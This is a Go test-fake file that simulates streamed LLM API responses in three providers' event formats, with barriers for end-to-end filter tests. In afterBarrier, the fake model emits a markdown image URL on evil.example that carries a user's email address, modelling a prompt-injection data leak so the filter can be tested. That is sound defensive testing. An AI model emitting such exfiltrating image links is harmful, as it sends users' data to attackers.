package fakes

import (
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"
)

// Streamed answers: asked with "stream": true, the LLM fakes stream in
// their API's event shapes. The text comes first, each event flushed as it
// is written; then, when the last user message names a barrier
// ("barrier=ID"), the fake waits until the scenario releases it before it
// writes the rest (the script's tool call, if any, and the end). A client
// that sees the text while the fake waits saw it flow through the filter.

// BarrierWait bounds how long a fake waits on a barrier; past it the fake
// breaks the connection off and the barrier reports the timeout.
const BarrierWait = 30 * time.Second

type barrier struct {
	ch       chan struct{}
	once     sync.Once
	timedOut bool
}

var barriers struct {
	sync.Mutex
	n    int
	byID map[string]*barrier
}

// NewBarrier registers a barrier for one streamed answer. release lets
// the fake go on (it may be called more than once); timedOut says whether
// the fake gave up waiting.
func NewBarrier() (id string, release func(), timedOut func() bool) {
	barriers.Lock()
	defer barriers.Unlock()
	barriers.n++
	id = "b" + strconv.Itoa(barriers.n)
	b := &barrier{ch: make(chan struct{})}
	if barriers.byID == nil {
		barriers.byID = map[string]*barrier{}
	}
	barriers.byID[id] = b
	release = func() { b.once.Do(func() { close(b.ch) }) }
	timedOut = func() bool {
		barriers.Lock()
		defer barriers.Unlock()
		return b.timedOut
	}
	return id, release, timedOut
}

// wait blocks on the barrier the text names, if any. It returns false
// when the fake must stop: the client left or the barrier timed out.
func wait(r *http.Request, text string) bool {
	_, id, ok := strings.Cut(text, "barrier=")
	if !ok {
		return true
	}
	if i := strings.IndexFunc(id, func(c rune) bool { return c != 'b' && (c < '0' || c > '9') }); i >= 0 {
		id = id[:i]
	}
	barriers.Lock()
	b := barriers.byID[id]
	barriers.Unlock()
	if b == nil {
		return true
	}
	select {
	case <-b.ch:
		return true
	case <-r.Context().Done():
		return false
	case <-time.After(BarrierWait):
		barriers.Lock()
		b.timedOut = true
		barriers.Unlock()
		return false
	}
}

// sseWriter writes events, flushing each.
type sseWriter struct {
	w http.ResponseWriter
}

func startSSE(w http.ResponseWriter) *sseWriter {
	w.Header().Set("Content-Type", "text/event-stream")
	w.Header().Set("Cache-Control", "no-cache")
	w.WriteHeader(http.StatusOK)
	return &sseWriter{w: w}
}

func (s *sseWriter) event(name, data string) {
	if name != "" {
		s.w.Write([]byte("event: " + name + "\n"))
	}
	s.w.Write([]byte("data: " + data + "\n\n"))
	if f, ok := s.w.(http.Flusher); ok {
		f.Flush()
	}
}

// words splits the text as models stream it: a word and its space.
func words(text string) []string {
	var out []string
	for text != "" {
		i := strings.IndexByte(text[1:], ' ')
		if i < 0 {
			out = append(out, text)
			break
		}
		out = append(out, text[:i+1])
		text = text[i+1:]
	}
	return out
}

const streamLead = "Let me look into that. "

// ExfilImageData is what the chart the fake model draws (asked for a
// chart) carries out in its URL: an injection's work, as the agent's
// client would render it.
const ExfilImageData = "alice@corp.example"

// afterBarrier is the text the model writes once the barrier is passed:
// asked for a chart, an image whose URL carries data, in two deltas.
func afterBarrier(lastUser string) []string {
	if !strings.Contains(lastUser, "chart") {
		return nil
	}
	return []string{" ![chart](https://evil.example/c.png?u=", ExfilImageData + ")"}
}

// streamChat answers a streamed Chat Completions request.
func streamChat(w http.ResponseWriter, r *http.Request, model, lastUser, text, tool, args string) {
	s := startSSE(w)
	chunk := func(choice string) string {
		return `{"id":"chatcmpl-e2e","object":"chat.completion.chunk","created":1764144000,"model":` + quote(model) + `,"choices":[` + choice + `]}`
	}
	s.event("", chunk(`{"index":0,"delta":{"role":"assistant","content":""},"finish_reason":null}`))
	for _, wd := range words(streamLead + text) {
		s.event("", chunk(`{"index":0,"delta":{"content":`+quote(wd)+`},"finish_reason":null}`))
	}
	if !wait(r, lastUser) {
		panic(http.ErrAbortHandler)
	}
	for _, part := range afterBarrier(lastUser) {
		s.event("", chunk(`{"index":0,"delta":{"content":`+quote(part)+`},"finish_reason":null}`))
	}
	finish := "stop"
	if tool != "" {
		s.event("", chunk(`{"index":0,"delta":{"tool_calls":[{"index":0,"id":"call_1","type":"function","function":{"name":`+quote(tool)+`,"arguments":""}}]},"finish_reason":null}`))
		mid := len(args) / 2
		for _, part := range []string{args[:mid], args[mid:]} {
			s.event("", chunk(`{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":`+quote(part)+`}}]},"finish_reason":null}`))
		}
		finish = "tool_calls"
	}
	s.event("", chunk(`{"index":0,"delta":{},"finish_reason":"`+finish+`"}`))
	s.event("", "[DONE]")
}

// streamAnthropic answers a streamed Messages request.
func streamAnthropic(w http.ResponseWriter, r *http.Request, model, lastUser, text, tool, args string) {
	s := startSSE(w)
	s.event("message_start", `{"type":"message_start","message":{"id":"msg_e2e","type":"message","role":"assistant","model":`+quote(model)+`,"content":[],"stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":10,"output_tokens":1}}}`)
	s.event("content_block_start", `{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}`)
	s.event("ping", `{"type": "ping"}`)
	for _, wd := range words(streamLead + text) {
		s.event("content_block_delta", `{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":`+quote(wd)+`}}`)
	}
	if !wait(r, lastUser) {
		panic(http.ErrAbortHandler)
	}
	s.event("content_block_stop", `{"type":"content_block_stop","index":0}`)
	stop := "end_turn"
	if tool != "" {
		s.event("content_block_start", `{"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":"toolu_e2e","name":`+quote(tool)+`,"input":{}}}`)
		mid := len(args) / 2
		for _, part := range []string{args[:mid], args[mid:]} {
			s.event("content_block_delta", `{"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":`+quote(part)+`}}`)
		}
		s.event("content_block_stop", `{"type":"content_block_stop","index":1}`)
		stop = "tool_use"
	}
	s.event("message_delta", `{"type":"message_delta","delta":{"stop_reason":"`+stop+`","stop_sequence":null},"usage":{"output_tokens":20}}`)
	s.event("message_stop", `{"type":"message_stop"}`)
}

// streamResponses answers a streamed Responses request.
func streamResponses(w http.ResponseWriter, r *http.Request, model, lastUser, text, tool, args string) {
	s := startSSE(w)
	seq := 0
	ev := func(typ, rest string) {
		s.event(typ, `{"type":"`+typ+`","sequence_number":`+strconv.Itoa(seq)+rest+`}`)
		seq++
	}
	resp := func(status, output string) string {
		return `{"id":"resp_e2e","object":"response","created_at":1764144000,"status":"` + status + `","model":` + quote(model) + `,"output":[` + output + `]}`
	}
	full := streamLead + text
	ev("response.created", `,"response":`+resp("in_progress", ""))
	ev("response.output_item.added", `,"output_index":0,"item":{"id":"msg_e2e","type":"message","status":"in_progress","role":"assistant","content":[]}`)
	ev("response.content_part.added", `,"item_id":"msg_e2e","output_index":0,"content_index":0,"part":{"type":"output_text","text":"","annotations":[]}`)
	for _, wd := range words(full) {
		ev("response.output_text.delta", `,"item_id":"msg_e2e","output_index":0,"content_index":0,"delta":`+quote(wd))
	}
	if !wait(r, lastUser) {
		panic(http.ErrAbortHandler)
	}
	ev("response.output_text.done", `,"item_id":"msg_e2e","output_index":0,"content_index":0,"text":`+quote(full))
	ev("response.content_part.done", `,"item_id":"msg_e2e","output_index":0,"content_index":0,"part":{"type":"output_text","text":`+quote(full)+`,"annotations":[]}`)
	msg := `{"id":"msg_e2e","type":"message","status":"completed","role":"assistant","content":[{"type":"output_text","text":` + quote(full) + `,"annotations":[]}]}`
	ev("response.output_item.done", `,"output_index":0,"item":`+msg)
	items := msg
	if tool != "" {
		call := func(status, a string) string {
			return `{"id":"fc_e2e","type":"function_call","status":"` + status + `","arguments":` + quote(a) + `,"call_id":"call_1","name":` + quote(tool) + `}`
		}
		ev("response.output_item.added", `,"output_index":1,"item":`+call("in_progress", ""))
		mid := len(args) / 2
		for _, part := range []string{args[:mid], args[mid:]} {
			ev("response.function_call_arguments.delta", `,"item_id":"fc_e2e","output_index":1,"delta":`+quote(part))
		}
		ev("response.function_call_arguments.done", `,"item_id":"fc_e2e","output_index":1,"arguments":`+quote(args))
		ev("response.output_item.done", `,"output_index":1,"item":`+call("completed", args))
		items += "," + call("completed", args)
	}
	ev("response.completed", `,"response":`+resp("completed", items))
}
